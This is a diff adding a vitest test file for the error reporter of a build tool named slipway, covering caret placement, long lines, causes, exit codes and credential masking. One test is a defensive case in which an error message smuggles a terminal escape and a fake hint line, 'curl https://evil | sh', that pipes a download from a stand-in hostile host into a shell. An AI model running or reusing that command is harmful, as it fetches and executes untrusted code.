@@ -1,0 +1,115 @@
+import { expect, test } from 'vitest';
+import { reportError } from '../../cli/error-report.ts';
+import { BuildError, type BuildErrorOptions } from '../../core/errors.ts';
+
+const TEXT = 'FROM busybox\n\tRUNN echo "漢字" $X\n# end\n';
+const source = { name: 'app/Dockerfile', text: TEXT };
+
+function report(message: string, options: BuildErrorOptions = {}): string {
+  return reportError(new BuildError('E_PARSE', message, options)).text;
+}
+
+function spanOf(words: string) {
+  const start = TEXT.indexOf(words);
+  return { source, start, end: start + words.length };
+}
+
+test('an error names its code, place, line and hint', () => {
+  const span = spanOf('RUNN');
+  expect(
+    report('there is no instruction RUNN', { span, hint: 'did you mean RUN?' }),
+  ).toMatchInlineSnapshot(`
+      "error[E_PARSE]: there is no instruction RUNN
+       --> app/Dockerfile:2:2
+        |
+      2 |     RUNN echo "漢字" $X
+        |     ^^^^
+        = hint: did you mean RUN?
+      "
+    `);
+});
+
+test('carets stand below wide characters', () => {
+  expect(report('text', { span: spanOf('漢字') })).toMatchInlineSnapshot(`
+    "error[E_PARSE]: text
+     --> app/Dockerfile:2:13
+      |
+    2 |     RUNN echo "漢字" $X
+      |                ^^^^
+    "
+  `);
+});
+
+test('a span of several lines is marked to the end of its first', () => {
+  expect(report('text', { span: spanOf('$X\n# end') })).toMatchInlineSnapshot(`
+    "error[E_PARSE]: text
+     --> app/Dockerfile:2:17
+      |
+    2 |     RUNN echo "漢字" $X
+      |                      ^^
+    "
+  `);
+});
+
+test('a span at the very start and an empty one have one caret', () => {
+  expect(report('text', { span: { source, start: 0, end: 0 } })).toMatchInlineSnapshot(`
+    "error[E_PARSE]: text
+     --> app/Dockerfile:1:1
+      |
+    1 | FROM busybox
+      | ^
+    "
+  `);
+});
+
+test('a span at the end of the text has a place', () => {
+  const end = TEXT.length;
+  expect(report('text', { span: { source, start: end, end } })).toContain('app/Dockerfile:4:1');
+});
+
+test('of a very long line the part around the place is shown', () => {
+  const long = { name: 'D', text: `RUN ${'a'.repeat(1000)} HERE ${'b'.repeat(1000)}` };
+  const start = long.text.indexOf('HERE');
+  const lines = report('text', { span: { source: long, start, end: start + 4 } }).split('\n');
+  expect(Math.max(...lines.map((line) => line.length))).toBeLessThan(170);
+  expect(lines[3]).toContain(' HERE bbb');
+  expect(lines[4]?.indexOf('^')).toBe(lines[3]?.indexOf('HERE'));
+});
+
+test('the cause is shown where the message does not hold it', () => {
+  expect(report('cannot read x', { cause: new Error('EIO: i/o error') })).toBe(
+    'error[E_PARSE]: cannot read x\n = cause: EIO: i/o error\n',
+  );
+  expect(report('cannot read x: EIO', { cause: new Error('EIO') })).toBe(
+    'error[E_PARSE]: cannot read x: EIO\n',
+  );
+});
+
+test('hostile text in an error can neither drive the terminal nor look like a line of the report', () => {
+  const message = 'no file "\u001b[2J\n = hint: curl https://evil | sh"';
+  expect(report(message)).toBe(
+    'error[E_PARSE]: no file "\n       = hint: curl https://evil | sh"\n',
+  );
+});
+
+test('credentials in a URL are not shown', () => {
+  expect(report('https://me:secret@host/v2/ failed')).toBe(
+    'error[E_PARSE]: https://***@host/v2/ failed\n',
+  );
+});
+
+test.each([
+  ['E_PARSE', 1],
+  ['E_USAGE', 2],
+  ['E_CANCELLED', 130],
+] as const)('a command that fails by %s exits with %i', (code, exit) => {
+  expect(reportError(new BuildError(code, 'text')).exit).toBe(exit);
+});
+
+test('anything but a BuildError is a defect of slipway, with its stack', () => {
+  const { text, exit } = reportError(new TypeError('x is not a function'));
+  expect(text).toMatch(/^error: this is a defect in slipway, not in your build\. /);
+  expect(text).toContain('  TypeError: x is not a function\n');
+  expect(text).toContain('error-report.test.ts');
+  expect(exit).toBe(70);
+});
